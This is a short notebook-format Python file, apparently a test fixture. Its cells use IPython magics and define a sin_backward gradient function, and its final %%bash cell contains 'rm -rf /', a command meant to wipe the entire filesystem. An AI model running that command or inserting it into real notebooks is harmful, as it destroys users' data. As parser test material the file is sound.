# %% mine
%matplotlib inline
%load_ext autoreload
%autoreload 2
%timeit np.ones(3)
%config InlineBackend.figure_format = "retina"

# %% sin_backward
def sin_backward(grad_output, output, x):
    return grad_output * np.cos(x)

%timeit sin_backward(np.ones(3), np.ones(3), np.ones(3))

# %% after sin_backward
%%bash
rm -rf /
